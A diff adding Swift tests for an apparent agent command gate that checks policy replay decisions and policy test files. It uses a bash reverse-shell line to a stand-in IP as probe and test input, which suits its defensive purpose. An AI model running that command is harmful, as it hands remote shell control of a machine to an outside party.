@@ -1,0 +1,88 @@
+// Replay and policy tests that need the real gate. Until the gate branch is merged,
+// Gate.evaluate is a placeholder that allows everything; these tests say so and are disabled
+// then, instead of passing vacuously or failing for a reason that is not theirs.
+import CordonGate
+import CordonPolicy
+import Glibc
+import Testing
+@testable import CordonAudit
+
+let gateIsPlaceholder: Bool = {
+    let a = Action(id: "probe", payload: .shell("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
+    return Gate.evaluate(a, policy: Policy()).decision == .allow
+}()
+
+func loadShipped(_ name: String) throws -> Policy {
+    try PolicyLoader(environment: [:]).load(path: repoRoot() + "/policies/\(name).yaml")
+}
+
+@Suite("replay and policy tests against the real gate", .disabled(if: gateIsPlaceholder, "Gate.evaluate is still the placeholder"))
+struct PolicyReplayTests {
+    @Test("a trace recorded under the default policy, replayed under strict.yaml, shows the expected changes")
+    func defaultToStrict() throws {
+        let dir = makeTempDir()
+        defer { removeTree(dir) }
+        let def = try PolicyLoader(environment: [:]).loadEmbedded()
+        let rec = try RunRecorder(directory: LogDirectory(path: dir))
+        try rec.start(RunStart(policy: def.source, agent: "a", command: ["sh"], cwd: dir, isolation: []))
+        let commands = [
+            "ls -la", "git status", "pip install requests", "curl -o data.json https://example.com/data.json",
+            "chmod 777 /srv/app", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+        ]
+        for (i, c) in commands.enumerated() {
+            let a = Action(id: "a-\(i)", payload: .shell(c))
+            try rec.record(Gate.evaluate(a, policy: def), for: a)
+        }
+        let input = try ReplayReader.read(rec.tracePath)
+        #expect(input.actions.count == commands.count)
+        let result = Replay.run(input.actions, policy: try loadShipped("strict"))
+        let changed = Dictionary(uniqueKeysWithValues: result.changed.map { ($0.recorded.command, $0.new.decision) })
+        #expect(changed["pip install requests"] == .requiresApproval)
+        #expect(changed["curl -o data.json https://example.com/data.json"] == .requiresApproval)
+        #expect(changed["chmod 777 /srv/app"] == .block)
+        for unchanged in ["ls -la", "git status", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] {
+            #expect(changed[unchanged] == nil, "\(unchanged) should not change")
+        }
+        // The same replay through gate.log gives the same changes.
+        let fromLog = Replay.run(try ReplayReader.read(dir + "/gate.log").actions, policy: try loadShipped("strict"))
+        #expect(Set(fromLog.changed.map(\.recorded.command)) == Set(result.changed.map(\.recorded.command)))
+    }
+
+    @Test("every shipped policy passes its policies/tests file", arguments: ["default", "agent", "strict"])
+    func shippedPolicyTests(_ name: String) throws {
+        let r = cordon(["test", repoRoot() + "/policies/tests/\(name).yaml"])
+        #expect(r.status == 0, "\(r.stdout)\(r.stderr)")
+        #expect(r.stdout.contains(" 0 failed"))
+    }
+}
+
+@Suite("policy test files")
+struct PolicyTestFileTests {
+    @Test("the shipped test files load, and every case names an expected decision")
+    func shippedFilesLoad() throws {
+        for name in ["default", "agent", "strict"] {
+            let f = try PolicyTestFile.load(repoRoot() + "/policies/tests/\(name).yaml")
+            #expect(f.cases.count >= 15, "\(name): \(f.cases.count) cases")
+            #expect(f.policyPath == repoRoot() + "/policies/\(name).yaml")
+            #expect(Set(f.cases.map(\.expect)) == Set(DecisionKind.allCases), "\(name) covers all three decisions")
+        }
+    }
+
+    @Test("a case with two payloads is an error at its position")
+    func twoPayloads() throws {
+        let dir = makeTempDir()
+        defer { removeTree(dir) }
+        writeText(dir + "/t.yaml", "policy: default\ncases:\n  - command: ls\n    argv: [ls]\n    expect: allow\n")
+        let e = try #require(throws: PolicyError.self) { try PolicyTestFile.load(dir + "/t.yaml") }
+        #expect(e.description == "\(dir)/t.yaml:3:5: a case needs exactly one of command:, argv: or tool:")
+    }
+
+    @Test("tool arguments keep their types")
+    func toolArgs() throws {
+        let dir = makeTempDir()
+        defer { removeTree(dir) }
+        writeText(dir + "/t.yaml", "policy: default\ncases:\n  - tool: t\n    args: {n: 3, s: \"3\", b: true, l: [a]}\n    expect: allow\n")
+        let c = try #require(try PolicyTestFile.load(dir + "/t.yaml").cases.first)
+        #expect(c.action.payload == .tool(name: "t", args: ["n": 3, "s": "3", "b": true, "l": ["a"]]))
+    }
+}
